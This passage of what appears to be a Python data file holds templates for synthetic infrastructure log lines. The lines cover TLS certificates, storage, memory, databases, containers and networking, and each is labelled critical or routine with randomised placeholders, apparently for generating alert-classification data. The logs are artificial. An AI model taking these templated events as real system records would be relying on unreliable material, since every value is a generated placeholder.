C cert-manager: Certificate %(ns)/%(svc)-tls not Ready: Issuing failed; Secret %(svc)-tls expired %(n:1-72) hours ago (reason: %(|OrderFailed|DNS01 challenge failed|rate limited))
C %(tsn) [emerg] %(pid)#%(pid): SSL_CTX_use_PrivateKey("/etc/nginx/tls/%(domain).key") failed (SSL: error:05800074:x509 certificate routines::key values mismatch)
C javax.net.ssl.SSLHandshakeException: PKIX path building failed: unable to find valid certification path to requested target (calls to %(domain) failing, payouts halted)
C kubelet[%(pid)]: %(klogE) certificate_manager.go:%(n:100-600)] "Certificate request was not signed" err="timed out waiting for the condition"; client certificate expires in %(n:3-50) minutes
C certwatch: %(domain) certificate expires in %(n:1-3) day(s); no renewal order exists and auto-renew is disabled
C sslmon: chain for %(domain):443 is invalid: intermediate "%(|R11|E6|Sectigo RSA DV|GTS CA 1P5)" missing; %(n:10-60)% of mobile clients failing handshake
C ocsp-responder: CRL for issuing CA %(|corp-issuing-01|device-ca|vpn-ca) expired at %(ts); all client-certificate logins are being rejected
C haproxy[%(pid)]: [ALERT]    (%(pid)) : config : parsing [/etc/haproxy/haproxy.cfg:%(n:10-400)] : 'bind *:443' : unable to load SSL certificate from PEM file '/etc/haproxy/certs/%(domain).pem'.
C etcd[%(pid)]: rejected connection from "%(ip):%(port)" (error "tls: failed to verify certificate: x509: certificate has expired or is not yet valid", ServerName "")
C envoy: [critical] TLS context for listener ingress_443 failed: certificate %(domain) notAfter=%(date) is in the past; listener drained
C %(svc) kafka-client: SSL authentication failed against all %(n:3-12) brokers (%(ip):9093): Received fatal alert: certificate_expired
C ingress-nginx: serving the default fake certificate for %(domain): secret %(ns)/%(svc)-tls not found
C apns: push certificate for bundle com.example.%(|shop|app|wallet) EXPIRED; %(n:1000-99999) notifications rejected
C saml: IdP signing certificate for %(|okta|adfs|azuread) expired at %(ts); SSO login failing for all users
R cert-manager: Certificate %(ns)/%(svc)-tls is up to date and has not expired
R certbot: Renewing an existing certificate for %(domain) and www.%(domain)
R certbot: Successfully received certificate. Certificate is saved at: /etc/letsencrypt/live/%(domain)/fullchain.pem This certificate expires on %(date).
R tls: loaded certificate for %(domain), valid until %(date) (%(n:40-380) days remaining)
R cert-expiry-check: %(n:10-300) certificates scanned, 0 expiring within 14 days, 0 expired
R ocsp stapling: response for %(domain) refreshed, next update %(ts)
R acme: renewed certificate for %(domain) (new serial %(HEX:32)), reload of %(|nginx|haproxy|envoy|traefik) triggered
R trust store reloaded from /etc/pki/ca-trust: %(n:120-160) CA certificates
R %(ip):%(port) client presented an expired certificate (CN=%(user)-laptop, notAfter %(date)); rejected with 403
R certificates.k8s.io: CertificateSigningRequest csr-%(lc:5) approved by kube-controller-manager and issued for system:node:%(node)
R vault[%(pid)]: pki: issued certificate serial %(colonhex) for %(svc).%(ns).svc.cluster.local ttl=72h
R cert check: %(|staging|dev|qa).%(domain) expired; environment decommissioned on %(date), check suppressed
R openssl s_client: Verify return code: 0 (ok), protocol TLSv1.3, cipher TLS_AES_256_GCM_SHA384, peer %(domain)
R cert-manager: Renewing certificate %(ns)/%(svc)-tls as renewal time %(ts) has been reached (expires %(date))
R sslmon: %(domain):443 chain ok (leaf + 1 intermediate), expires in %(n:30-89) days, renewal window opens in %(n:1-59) days
R kubelet: Rotating certificates; client certificate rotated, new expiry %(ts)
R traefik: Adding certificate for domain(s) %(domain) from resolver letsencrypt
R cert-exporter: ssl_cert_not_after{cn="%(domain)"} in %(n:40-300) days, threshold 21 days, OK
"""

STORAGE = r"""
C kernel: %(kt) print_req_error: critical medium error, dev %(sdisk), sector %(n:1000-3900000000)
C kernel: %(kt) EXT4-fs error (device %(part)): ext4_journal_check_start:%(n:60-90): comm %(proc): Detected aborted journal
C kernel: %(kt) EXT4-fs (%(part)): previous I/O error to superblock detected
C %(sys)systemd[1]: Failed to mount %(|var-lib-postgresql|srv-data|var-lib-docker|export-home).mount - %(path).
C kernel: %(kt) BTRFS error (device %(part)): bdev /dev/%(part) errs: wr %(n:1-900), rd %(n:1-900), flush 0, corrupt %(n:1-200), gen 0
C kernel: %(kt) BTRFS: error (device %(part)) in btrfs_commit_transaction:%(n:2000-2600): errno=-5 IO failure (Error while writing out transaction); forced readonly
C %(sys)mdadm[%(pid)]: DegradedArray event detected on md device /dev/md%(n:0-9)
C %(sys)mdadm[%(pid)]: Fail event detected on md device /dev/md%(n:0-9), component device /dev/%(part)
C megaraid_sas 0000:%(pcibus): %(n:1000-99999) (%(n:700000000-799999999)s/0x0001/FATAL) - VD 0%(n:0-9)/%(n:0-9) is now DEGRADED
C perccli: /c0/e%(n:32-64)/s%(n:0-23) PD state changed from Online to Failed (SN %(HEX:12)), virtual disk /c0/v%(n:0-3) Degraded
C storcli: Battery Backup Unit failed on /c%(n:0-1); controller cache forced to WriteThrough for %(n:2-16) virtual drives
C smartd[%(pid)]: Device: /dev/%(sdisk) [SAT], Self-Test Log error count increased from %(n:0-3) to %(n:1-9)
C smartd[%(pid)]: Device: /dev/%(sdisk) [SAT], SMART Prefailure Attribute: 5 Reallocated_Sector_Ct below threshold (FAILING_NOW)
C smartctl: {"device":{"name":"/dev/%(disk)"},"smart_status":{"passed":false},"ata_smart_attributes":{"table":[{"id":197,"name":"Current_Pending_Sector","raw":{"value":%(n:8-4000)}}]}}
C kernel: %(kt) nvme nvme%(n:0-7): I/O %(n:1-1023) QID %(n:1-64) timeout, reset controller
C kernel: %(kt) nvme%(n:0-7)n1: Write(0x1) @ LBA %(n:1000-900000000), %(n:1-256) blocks, Data Transfer Error (sct 0x0 / sc 0x4) DNR
C %(sys)%(svc)[%(pid)]: write to %(path) failed: No space left on device (errno 28); dropping %(n:100-90000) buffered records
C df-watch: filesystem full on %(host): %(path) has 0 bytes available and no free inodes
C lvm[%(pid)]: Thin pool %(vg)-%(|tpool|pool00|data) data is now 100.00% full; new writes to thin volumes will fail
C multipathd[%(pid)]: %(|mpatha|mpathb|san-lun07): Entering recovery mode: max_retries=%(n:6-30); all paths down, queueing I/O
C iscsid: connection%(n:1-8):0: session recovery timed out after 120 secs; device offlined, I/O to LUN %(n:0-31) failing
C kernel: %(kt) sd %(scsi): rejecting I/O to offline device
C zfs: pool %(pool) is SUSPENDED: I/O failures on %(n:2-4) of %(n:4-12) vdevs exceeded redundancy, all I/O blocked
C ceph-mgr: HEALTH_ERR %(n:1-40) pgs stuck inactive for more than %(n:300-3600) seconds; %(n:1-9) pools have no free space left
C glusterd: volume %(|gv0|data|shared) split-brain detected on %(n:1-900) files; self-heal unable to pick a source
C longhorn-manager: volume pvc-%(uuid) is Faulted: all replicas failed; attached pod %(pod) cannot read data
R fstrim[%(pid)]: %(path): %(f:0.5-900) GiB (%(n:1000000000-900000000000) bytes) trimmed on /dev/%(part)
R xfs_repair: Phase 7 - verify and correct link counts... done; no corruption found on /dev/%(part)
R %(sys)mdadm[%(pid)]: RebuildFinished event detected on md device /dev/md%(n:0-9), component device  mismatches found: 0
R %(sys)mdadm[%(pid)]: NewArray event detected on md device /dev/md%(n:0-9)
R kernel: %(kt) md: resync of RAID array md%(n:0-9) at %(n:100000-200000)K/sec, %(f:1-99)% done
R storcli on %(host): /c%(n:0-1)/v%(n:0-3) state Optimal, consistency check completed in %(dur), 0 inconsistencies
R megaraid_sas 0000:%(pcibus): %(n:1000-99999) (%(n:700000000-799999999)s/0x0020/Info) - Patrol Read complete
R smartd[%(pid)]: Device: /dev/%(disk), opened; NVMe SMART/Health: critical warning 0x00, media errors 0, %(n:1-99)% used
R smartctl -l error /dev/%(disk): SMART Error Log Version: 1 No Errors Logged
R smartd[%(pid)]: Device: /dev/%(sdisk) [SAT], self-test in progress, %(n:10-90)% remaining
R kernel: %(kt) nvme nvme%(n:0-7): pci function 0000:%(pcibus)
R kernel: %(kt) sd %(scsi): [%(sdisk)] Synchronizing SCSI cache
R kernel: %(kt) sd %(scsi): [%(sdisk)] Attached SCSI removable disk
R btrfs scrub status /mnt/%(|data|backup|pool): scrub finished after %(time), total to scrub %(f:1-40) TiB, Error summary: no errors found
R zed[%(pid)]: pool %(pool) scrub finished on %(host): 0 repaired, 0 errors
R lvm[%(pid)]: %(n:2-30) logical volume(s) in volume group "%(vg)" now active
R lvm[%(pid)]: Monitoring thin pool %(vg)-%(|tpool|pool00) (data %(f:10-70)%, metadata %(f:1-20)%).
R multipathd[%(pid)]: %(disk): reinstated; %(|mpatha|mpathb): remaining active paths: %(n:2-4)
R iscsid: Connection%(n:1-8):0 to [target: iqn.2024-01.com.example:storage.%(n:1-99), portal: %(ip),3260] through [iface: default] is operational now
R ceph: HEALTH_WARN noout flag(s) set; maintenance on %(host) in progress
R quota: user %(user) exceeded soft block limit on /home (grace period 7days)
R rsync: sent %(bytes) bytes  received %(bytes) bytes  %(f:1000-900000:2) bytes/sec total size is %(bytes)  speedup is %(f:1-900:2)
R snapper: created snapshot %(n:1-9999) of / (pre, zypper)
R kernel: %(kt) NFSD: starting 90-second grace period (net f0000000)
R kernel: %(kt) EXT4-fs (%(part)): resizing filesystem from %(n) to %(n) blocks
R gluster: self-heal on volume %(|gv0|data) completed: 0 files in split-brain, %(n:0-99) healed
R longhorn-manager: replica r-%(lc:8) rebuilt for volume pvc-%(uuid), volume Healthy
R tune2fs: setting reserved blocks percentage to 1% (%(n) blocks)
"""

MEMORY = r"""
C kernel: %(kt) %(proc) invoked oom-killer: gfp_mask=0x%(hex:6)(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=%(n:0-999)
C %(sys)systemd-oomd[%(pid)]: Killed /system.slice/%(svc).service due to memory pressure for /system.slice being %(f:80-99:2)% > 80.00% for > 20s with reclaim activity
C earlyoom[%(pid)]: low memory! mem avail: %(n:50-300) of %(n:16000-512000) MiB (%(f:0.1-1.9:2)%), swap free: 0 of 0 MiB; sending SIGTERM to process %(pid) "%(proc)"
C %(sys)kernel: %(kt) mce: [Hardware Error]: Machine check: Data load in unrecoverable area of kernel
C kernel: %(kt) Memory failure: 0x%(hex:7): recovery action for dirty LRU page: Failed
C ipmi: SEL %(n) | Memory #0x%(hex:2) | Uncorrectable ECC | DIMM_%(dimm) | Asserted
C kernel: %(kt) %(proc): page allocation failure: order:%(n:2-5), mode:0x%(hex:5)(GFP_KERNEL|__GFP_COMP|__GFP_ZERO), nodemask=(null),cpuset=/,mems_allowed=0-1
C Terminating due to java.lang.OutOfMemoryError: Direct buffer memory (%(svc) pid %(pid))
C fatal error: runtime: cannot allocate memory goroutine %(n:1-9999) [running]: %(svc)/internal/%(|cache|index|ingest).(*%(|Store|Builder|Loader)).Grow
C %(svc) worker %(pid) exited: MemoryError while loading batch %(n:1-99999); supervisor giving up after %(n:3-10) restarts
C kernel: %(kt) Task in /kubepods/burstable/pod%(uuid)/%(hex:64) killed as a result of limit of /kubepods/burstable/pod%(uuid)
C swap exhausted on %(host): 0 kB free of %(n:2000000-33554432) kB; system thrashing, load average %(f:100-400:2)
C kernel: %(kt) Out of memory and no killable processes...
C kernel: %(kt) Kernel panic - not syncing: System is deadlocked on memory
C node-exporter alert MemoryExhausted: %(host) has %(n:50-300)MiB available (%(f:0.1-1.5:2)%) for %(n:10-60)m, kswapd at 100% CPU
C redis: OOM command not allowed when used memory > 'maxmemory'; writes rejected for %(n:2-60)m, %(n:1000-900000) commands failed
C %(pod)   0/1     OOMKilled   %(n:5-80) (%(n:1-59)s ago)   %(n:1-59)m
C {"event":"memory_error","type":"uncorrectable","dimm":"%(dimm)","host":"%(host)","action":"page_offline_failed"}
R ras-mc-ctl: corrected memory errors on DIMM_%(dimm): %(n:1-20) in last 24h (threshold 24), no action needed
R rasdaemon[%(pid)]: mc_event: 1 Corrected error: memory scrubbing on DIMM %(dimm) (mc:%(n:0-3) channel:%(n:0-7) slot:%(n:0-1)) no action required
R {"event":"memory_error","type":"corrected","count":%(n:1-5),"dimm":"%(dimm)","host":"%(host)","action":"none"}
R kernel: %(kt) Memory: %(n:100000000-500000000)K/%(n:100000000-500000000)K available (%(n:10000-20000)K kernel code, %(n:1000-9000)K rwdata, %(n:100000-900000)K reserved)
R kernel: %(kt) Freeing unused kernel image (initmem) memory: %(n:2000-6000)K
R kernel: %(kt) zswap: loaded using pool %(|lz4|zstd)/%(|z3fold|zsmalloc)
R %(svc): oom_score_adj set to -%(n:100-999) for pid %(pid) (protected system service)
R gc: full GC reduced heap from %(f:4.5-16)GiB to %(f:0.2-4)GiB (pause %(n:50-400)ms), no allocation failures
R %(sys)systemd[1]: %(svc).service: memory.high throttling events: 0 in the last 5m
R kernel: %(kt) HugeTLB: registered 1.00 GiB page size, pre-allocated %(n:0-64) pages
R redis: used_memory_human:%(f:0.1-9:2)G maxmemory_human:%(n:8-32).00G evicted_keys:0 mem_fragmentation_ratio:%(f:1-1.6:2)
R kubelet: pod %(ns)/%(pod) memory working set %(n:100-900)Mi of %(n:1-4)Gi limit (%(n:10-79)%)
R kswapd0: reclaimed %(f:0.5-8) GiB page cache, no direct reclaim stalls
R jvm: [gc,heap,exit] Heap region size: 4M, Metaspace used %(n:50000-300000)K, capacity %(n:50000-300000)K, committed %(n:50000-300000)K
R numad[%(pid)]: Advising pid %(pid) (%(proc)) move from nodes (%(n:0-1)) to nodes (%(n:0-1))
R memtester: Loop %(n:1-10)/10: Stuck Address : ok Random Value : ok Compare XOR : ok
R kernel: %(kt) khugepaged: collapsed %(n:10-9000) pages into huge pages
R systemd-oomd[%(pid)]: swap usage %(n:1-40)% below SwapUsedLimit=90%, nothing to kill
R edac-util: mc%(n:0-3): 0 Uncorrected Errors with no DIMM info, %(n:0-9) Corrected Errors
"""

DATABASES = r"""
C %(pgts) [%(pid)] PANIC:  could not locate a valid checkpoint record
C %(pgts) [%(pid)] PANIC:  WAL contains references to invalid pages
C %(pgts) [%(pid)] ERROR:  could not access status of transaction %(n) DETAIL:  Could not open file "pg_xact/%(HEX:4)": No such file or directory.
C patroni[%(pid)]: %(tsd),%(n:100-999) ERROR: Cluster has no leader and no healthy replica is eligible for promotion; %(|pg-orders|pg-main|billing-db) is read-only
C %(sys)repmgrd[%(pid)]: [%(tsd)] [ERROR] unable to connect to upstream node "%(host)" (ID: %(n:1-9)); replication stopped, lag %(n:1000-900000) MB and growing
C replica %(host) (%(ip):3306): Replica_IO_Running: No, Replica_SQL_Running: No, Seconds_Behind_Source: NULL, Last_IO_Error: Got fatal error 1236 from source when reading data from binary log: 'Could not find first log file name in binary log index file'
C %(mysqlts) %(n) [ERROR] [MY-%(n:10000-13999)] [InnoDB] Missing MLOG_CHECKPOINT at %(n) between the checkpoint %(n) and the end %(n).
C %(mysqlts) %(n) [ERROR] [MY-%(n:10000-13999)] [InnoDB] Plugin initialization aborted with error Data structure corruption.
C %(mysqlts) %(n) [Warning] [MY-000000] [Galera] Non-primary view: node %(host) lost quorum (%(n:1-2) of %(n:3-5) members); refusing queries
C kernel: %(kt) drbd %(|r0|r1|pgdata): Split-Brain detected but unresolved, dropping connection!
C pacemaker-controld[%(pid)]: error: split brain: resource %(|pgsql-ha|mysql-ha|nfs-ha) active on both %(host) and %(host)
C ORA-00313: open failed for members of log group %(n:1-6) of thread %(n:1-2) ORA-00312: online log %(n:1-6) thread %(n:1-2): '%(path)'
C ORA-00600: internal error code, arguments: [kcbz_check_objd_typ_%(n:1-3)], [%(n)], [%(n)], [%(n:1-3)], [], [], [], []
C db-monitor: %(n:400-9000) deadlocks in the last 5 minutes on %(db).%(table) (baseline %(n:0-5)); checkout requests timing out
C {"t":{"$date":"%(ts)"},"s":"F","c":"STORAGE","id":%(n:20000-29999),"ctx":"initandlisten","msg":"Fatal Assertion","attr":{"msgid":28559,"file":"src/mongo/db/storage/wiredtiger/wiredtiger_util.cpp"}}
C %(n:1-99999):X %(redists) # +odown master %(|mymaster|sessions|cache-main) %(ip) 6379 #quorum %(n:2-3)/%(n:2-3)
C ERROR [%(|SSTableReader|CompactionExecutor):%(n:1-16)] %(cassts) org.apache.cassandra.io.sstable.CorruptSSTableException: Corrupted: /var/lib/cassandra/data/%(db)/%(table)-%(hex:32)/nb-%(n:1-9999)-big-Data.db
C Code: 40. DB::Exception: Checksum doesn't match: corrupted data. Reference: %(hex:32). Actual: %(hex:32). (CHECKSUM_DOESNT_MATCH) on part all_%(n:1-999)_%(n:1-999)_%(n:1-9)
C %(tsd).%(n:10-99) spid%(n:5-300)s Msg 9001, Level 21, State 1: The log for database '%(db)' is not available. Check the operating system error log for related error messages.
C pgbouncer: pool %(db)/%(|app|api|writer): cl_waiting=%(n:200-5000) sv_active=0 sv_idle=0; server login failing for %(n:2-30)m
C %(svc)[%(pid)]: all writes failing: ERROR 1290 (HY000): The MySQL server is running with the --read-only option so it cannot execute this statement
C cockroach: %(n:1-900) ranges unavailable, lost quorum (node n%(n:1-9) dead for %(n:5-60)m)
R %(pgts) [%(pid)] LOG:  checkpoint starting: %(|time|wal|immediate force wait)
R %(pgts) [%(pid)] LOG:  database system is ready to accept connections
R %(pgts) [%(pid)] LOG:  redo done at %(lsn) system usage: CPU: user: %(f:0-2:2) s, system: %(f:0-1:2) s, elapsed: %(f:0-30:2) s
R %(pgts) [%(pid)] LOG:  consistent recovery state reached at %(lsn)
R %(pgts) [%(pid)] LOG:  invalid record length at %(lsn): expected at least 24, got 0
R INFO:  vacuuming "%(db).public.%(table)" ... found %(n) removable, %(n) nonremovable row versions in %(n) out of %(n) pages
R %(pgts) [%(pid)] LOG:  automatic analyze of table "%(db).public.%(table)" avg read rate: %(f:0-90:3) MB/s
R patroni[%(pid)]: %(tsd),%(n:100-999) INFO: no action. I am (%(host)), the leader with the lock
R patroni[%(pid)]: %(tsd),%(n:100-999) INFO: no action. I am (%(host)), a secondary, and following a leader (%(host))
R repmgrd[%(pid)]: [%(tsd)] [NOTICE] node "%(host)" (ID: %(n:1-9)) has caught up with upstream, replication lag 0 bytes
R %(mysqlts) %(n) [Note] [MY-%(n:10000-13999)] [Repl] Replica SQL thread for channel '' has read all relay log; waiting for more updates
R replica %(host) (%(ip):3306): Seconds_Behind_Source: 0, Replica_IO_Running: Yes, Replica_SQL_Running: Yes, Last_Error:
R pg_basebackup: base backup completed (%(n:1-900) GB in %(n:1-90)m)
R %(mysqlts) 0 [System] [MY-%(n:10000-13999)] [Server] /usr/sbin/mysqld: Shutdown complete (mysqld %(semver))  MySQL Community Server - GPL.
R %(pgts) [%(pid)] ERROR:  deadlock detected; transaction on %(db).%(table) retried successfully by application (attempt 2)
R %(mysqlts) %(n) [Note] [MY-000000] [Galera] Member %(n:0-5).0 (%(host)) synced with group.
R %(mysqlts) %(n) [Note] [MY-000000] [Galera] Synchronized with group, ready for connections
R {"t":{"$date":"%(ts)"},"s":"I","c":"COMMAND","id":51803,"ctx":"conn%(n)","msg":"Slow query","attr":{"ns":"%(db).%(table)","durationMillis":%(n:100-9000)}}
R %(n:1-99999):X %(redists) # +failover-end master %(|mymaster|sessions|cache-main) %(ip) 6379
R pgbouncer: stats: %(n:100-9000) xacts/s, %(n:100-9000) queries/s, in %(n) B/s, out %(n) B/s, xact %(n:100-9000) us, query %(n:100-9000) us, wait %(n:0-90) us
R clickhouse: %(db).%(table) (MergerMutator): Merged %(n:2-10) parts in %(f:0.1-9:3) sec
R %(tsd) %(user)@%(|ORCLPDB1|FINPRD|HRPRD): ORA-28002: the password will expire within %(n:3-14) days
R ERROR 1045 (28000): Access denied for user '%(user)'@'%(ip)' (using password: YES)
R %(pgts) [%(pid)] LOG:  could not receive data from client: Connection reset by peer
R cockroach: node n%(n:1-9) decommissioned; %(n:100-9000) replicas moved, all ranges healthy
R {"t":{"$date":"%(ts)"},"s":"I","c":"REPL","id":21358,"ctx":"ReplCoord-%(n:0-99)","msg":"Replica set state transition","attr":{"newState":"SECONDARY","oldState":"STARTUP2"}}
R INFO  [RepairJobTask:%(n:1-9)] %(cassts) RepairJob.java:%(n:100-300) - [repair #%(uuid)] %(table) is fully synced
R cassandra: nodetool repair completed for keyspace %(db) in %(n:1-90)m, 0 ranges failed
R BACKUP DATABASE successfully processed %(n) pages in %(f:1-900:3) seconds (%(f:1-900:3) MB/sec).
"""

CONTAINERS = r"""
C kube-state-metrics: kube_pod_container_status_waiting_reason{namespace="%(ns)",pod="%(pod)",reason="CrashLoopBackOff"} 1 for %(n:10-90)m
C argocd: application %(svc) health Degraded: Deployment %(svc) 0/%(n:2-12) available, pods in CrashLoopBackOff
C node-lifecycle-controller: Node %(node) is unreachable; adding taint node.kubernetes.io/unreachable:NoExecute and evicting %(n:5-110) pods
C kube-controller-manager: %(klogI) node_lifecycle_controller.go:%(n:100-1500)] "Node became not ready" node="%(node)" status={Type:Ready Status:Unknown Reason:NodeStatusUnknown Message:Kubelet stopped posting node status.}
C cluster %(|prod|production)-%(region): %(n:3-40) of %(n:10-80) nodes NotReady for %(n:5-30)m (reason: KubeletNotReady, PLEG is not healthy)
C Warning  Evicted  pod/%(pod)  The node was low on resource: ephemeral-storage. Threshold quantity: 10%, available: %(n:0-9)%. Container %(svc) was using %(n:1-90)Gi.
C kubelet[%(pid)]: %(klogI) eviction_manager.go:%(n:100-600)] "Eviction manager: pods evicted, waiting for pod to be cleaned up" pods=["%(ns)/%(pod)"] (nodefs.available below 5%)
C Warning  Failed  pod/%(pod)  Failed to pull image "%(img)": rpc error: code = NotFound desc = failed to pull and unpack image: manifest unknown; rollout of %(ns)/%(svc) blocked with 0 ready
C Warning  Failed  pod/%(pod)  Error: ImagePullBackOff (deployment %(svc) in production, 0/%(n:3-12) replicas available)
C kube-apiserver[%(pid)]: %(klogE) storage_flowcontrol.go:%(n:100-900)] etcd cluster is unavailable or misconfigured; error #0: dial tcp %(ip):2379: connect: connection refused
C dockerd[%(pid)]: failed to start daemon: error initializing graphdriver: driver not supported: overlay2 (all containers down)
C containerd[%(pid)]: level=error msg="failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: error mounting %(path)" container=%(svc) restarts=%(n:20-300)
C Warning  ClaimLost  persistentvolumeclaim/data-%(svc)-%(n:0-5)  Bound claim has lost its PersistentVolume. Data on the volume is lost!
C Warning  FailedAttachVolume  pod/%(pod)  Multi-Attach error for volume "pvc-%(uuid)" Volume is already exclusively attached to one node and can't be attached to another
C ecs: (service %(svc)) is unable to consistently start tasks successfully. For more information, see the Troubleshooting section.
C nomad: allocation %(uuid8) for job %(svc) failed: Exceeded allowed attempts 2 in interval 30m0s and mode is "fail"
C docker: container %(svc) exited with code 137 (OOMKilled); restart policy "no", service unavailable
C Warning  FailedCreate  replicaset/%(svc)-%(lc:10)  Error creating: pods "%(svc)-%(lc:10)-" is forbidden: exceeded quota: compute-resources, requested: limits.memory=%(n:1-8)Gi (0 pods running)
C kubectl get deploy -n %(ns): %(svc)   0/%(n:2-12)     %(n:2-12)            0           %(n:1-90)m
C calico-node: Readiness probe failed: calico/node is not ready: BIRD is not ready: BGP not established with %(ip),%(ip) (pod networking broken on %(n:5-60) nodes)
C coredns: [FATAL] plugin/loop: Loop (127.0.0.1:%(port) -> :53) detected for zone ".", see https://coredns.io/plugins/loop#troubleshooting
R horizontal-pod-autoscaler: New size: %(n:2-40); reason: cpu resource utilization (percentage of request) above target
R cluster-autoscaler: Scale-down: removing empty node %(node)
R Normal  Pulled  pod/%(pod)  Container image "%(img)" already present on machine
R kubectl rollout status -n %(ns): deployment "%(svc)" successfully rolled out (revision %(n:2-400))
R dockerd[%(pid)]: time="%(ts)" level=info msg="Container %(hex:12) health_status: healthy"
R containerd[%(pid)]: time="%(ts)" level=info msg="shim disconnected" id=%(hex:64) namespace=k8s.io
R kubelet[%(pid)]: %(klogI) kubelet.go:%(n:1000-2600)] "SyncLoop (PLEG): event for pod" pod="%(ns)/%(pod)" event={"ID":"%(uuid)","Type":"ContainerStarted"}
R Normal  Preempted  pod/%(pod)  Preempted by %(ns)/%(pod) on node %(node) (priority class batch-low)
R node/%(node) cordoned; draining for kernel upgrade, %(n:3-60) pods evicted and rescheduled
R Normal  Completed  pod/%(pod)  Container %(svc) terminated: Completed (exit code 0)
R Node %(node) status is now: NodeHasSufficientMemory
R docker pull %(img): Pull complete; Digest: sha256:%(hex:64)
R istio-proxy: Envoy proxy is ready (%(pod))
R kubectl rollout restart deployment/%(svc) -n %(ns): deployment.apps/%(svc) restarted
R Normal  SuccessfulDelete  job/%(svc)-cleanup-%(n)  Deleted pod: %(svc)-cleanup-%(n)-%(lc:5)
R helm: Release "%(svc)" has been upgraded. Happy Helming! REVISION: %(n:2-300) STATUS: deployed
R kube-scheduler: Successfully bound pod %(ns)/%(pod) to %(node) (score %(n:50-100))
R ecs %(region): (service %(svc)) has reached a steady state.
R nomad: allocation %(uuid8) for job %(svc) is now healthy (deployment %(uuid8) successful)
R Warning  Unhealthy  pod/%(pod)  Startup probe failed: Get "http://%(ip):%(port)/startup": context deadline exceeded (attempt %(n:1-5) of 30)
R containerd[%(pid)]: level=info msg="PullImage \"%(img)\" returns image reference \"sha256:%(hex:64)\""
R podman[%(pid)]: %(ts) container died %(hex:64) (image=%(img), name=%(svc)-job, exit code 0)
R Normal  Killing  pod/%(pod)  Stopping container %(svc) (spot instance reclaimed, replacement scheduled)
"""

NETWORK = r"""
C %(sys)kernel: %(kt) bond%(n:0-3): (slave %(iface)): link status definitely down, disabling slave; uplink redundancy lost
C %(cisco)%LINK-3-UPDOWN: Interface %(|TenGigabitEthernet|HundredGigE)%(n:1-2)/0/%(n:1-48), changed state to down (uplink to %(|core|spine|isp))
C %(cisco)%LINEPROTO-5-UPDOWN: Line protocol on Interface Port-channel%(n:1-48), changed state to down
C %(cisco)%BGP-5-ADJCHANGE: neighbor %(ip) Down BGP Notification sent
C bird[%(pid)]: %(|upstream1|transit_b|ix_peer4|core_rr1): BGP session down: Hold timer expired
C bgpd[%(pid)]: %ADJCHANGE: neighbor %(ip)(%(|isp-a|isp-b|transit-1)) in vrf default Down Peer closed the session
C smokeping: ALERT: %(n:30-100)% packet loss to %(host) from %(n:3-20) probes for %(n:3-30) minutes (rule lossdetect)
C kernel: %(kt) nf_conntrack: nf_conntrack: table full, dropping packet
C kernel: %(kt) NETDEV WATCHDOG: %(iface) (%(|ixgbe|i40e|mlx5_core|bnxt_en)): transmit queue %(n:0-63) timed out %(n:5000-30000) ms
C switch: storm-control: broadcast storm detected on %(|Gi|Te)1/0/%(n:1-48) (VLAN %(n:2-4000)): %(n:100000-900000) pps, port err-disabled
C unbound[%(pid)]: [%(pid):0] error: SERVFAIL <%(domain). A IN>: all the configured stub or forward servers failed, at zone .
C coredns: [ERROR] plugin/forward: no healthy upstreams; every query answered SERVFAIL for %(n:2-30)m
C named[%(pid)]: zone %(domain)/IN: expired
C dhcpd[%(pid)]: DHCPDISCOVER from %(mac) via %(iface): network %(ip)/%(n:16-24): no free leases
C Keepalived_vrrp[%(pid)]: (VI_%(n:1-9)) Entering FAULT STATE
C charon: %(n:1-20)[IKE] giving up after %(n:5-10) retransmits; site-to-site tunnel %(|dc1-dc2|aws-onprem|hq-branch) down, routes withdrawn
C wg-monitor: peer %(b64:43)= on wg0 last handshake %(n:3-60) minutes ago; tunnel to %(|dc-west|backup-site) is down
C chronyd[%(pid)]: System clock wrong by %(f:5-200:3) seconds, no selectable sources; Kerberos and TLS validation failing
C switch: spanning-tree topology change storm: %(n:200-5000) TCNs in 60s on VLAN %(n:2-4000), MAC tables flushing continuously
C haproxy[%(pid)]: Server %(svc)/%(host) is DOWN, reason: Layer4 timeout, check duration: %(n:2000-5000)ms. 0 active and 0 backup servers left. %(n:0-9) sessions active, 0 requeued, 0 remaining in queue.
C ethtool: %(iface) rx_missed_errors increased by %(n:100000-9000000) in 60s; fifo overruns, %(f:5-40)% of packets dropped
C routing: default route via %(ip) withdrawn on %(host); no backup gateway, external connectivity lost
R %(sys)NetworkManager[%(pid)]: <info>  [%(epoch)] device (%(iface)): state change: ip-config -> ip-check (reason 'none', sys-iface-state: 'managed')
R lldpd[%(pid)]: new neighbor %(host) on %(iface) (port %(|Ethernet|xe-0/0/)%(n:1-48))
R %(cisco)%LINK-3-UPDOWN: Interface GigabitEthernet%(n:1-2)/0/%(n:1-48), changed state to up
R %(cisco)%BGP-5-ADJCHANGE: neighbor %(ip) Up
R bird[%(pid)]: %(|upstream1|transit_b|ix_peer4): Established; %(n:1000-950000) routes imported
R dnsmasq[%(pid)]: query[A] %(domain) from %(ip)
R named[%(pid)]: client @0x%(hex:12) %(pubip)#%(port) (%(domain)): query (cache) '%(domain)/A/IN' denied
R named[%(pid)]: network unreachable resolving './DNSKEY/IN': 2001:500:%(n:1-9)::%(n:10-99)#53
R named[%(pid)]: zone %(domain)/IN: loaded serial %(n:2024010100-2025123199)
R dhclient[%(pid)]: DHCPACK of %(ip) from %(ip); bound to %(ip) -- renewal in %(n:600-43200) seconds.
R systemd-networkd[%(pid)]: %(iface): DHCPv4 address %(ip)/%(n:16-24), gateway %(ip) acquired from %(ip)
R Keepalived_vrrp[%(pid)]: (VI_%(n:1-9)) Entering BACKUP STATE
R charon: %(n:1-20)[IKE] IKE_SA %(|dc1-dc2|aws-onprem)[%(n:1-99)] established between %(ip)[%(host)]...%(pubip)[%(pubip)]
R charon: %(n:1-20)[IKE] rekeying CHILD_SA net-net{%(n:1-99)} after %(n:3000-3600)s, new SPIs %(hex:8)_i %(hex:8)_o
R chronyd[%(pid)]: Selected source %(ip) (%(|ntp1|ntp2|time).%(|corp.example.org|example.com))
R ping-monitor: packet loss 0.0% to gateway %(ip) (rtt min/avg/max %(f:0.1-0.5:2)/%(f:0.3-1:2)/%(f:1-4:2) ms)
R ping-monitor: %(n:1-3)% loss to %(host) over 5m (threshold 10%), ok
R kernel: %(kt) IPv4: martian source %(ip) from %(ip), on dev %(iface)
R kernel: %(kt) %(iface): renamed from eth%(n:0-9)
